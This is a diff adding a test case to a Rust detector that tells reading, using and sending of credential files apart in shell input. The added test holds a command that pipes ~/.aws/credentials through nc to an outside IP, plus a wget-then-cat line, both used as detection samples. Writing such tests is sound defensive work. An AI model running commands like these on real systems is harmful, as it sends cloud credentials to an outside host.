@@ -80,6 +80,14 @@ fn reads_searches_copies_sends_and_uses_are_told_apart() {
         (hits[0].token, hits[0].action),
         (TokenKind::DotenvPassword, TokenAction::Use)
     );
+    // A send elsewhere on the line is not a send of the token; a pipe into one is.
+    let mut w2 = TokenWatch::new(mint(KEY, session(3), "/root"));
+    assert!(
+        w2.on_input("cd /tmp; wget http://x/y; cat ~/.aws/credentials")
+            .is_empty()
+    );
+    let hits = w2.on_input("cat ~/.aws/credentials | nc 203.0.113.5 80");
+    assert_eq!(hits[0].action, TokenAction::Exfiltrate);
     // Mentions that are not copies or sends, and look-alike names, are nothing.
     assert!(w.on_input("ls -la .aws").is_empty());
     assert!(w.on_input("cp .envrc /tmp").is_empty());
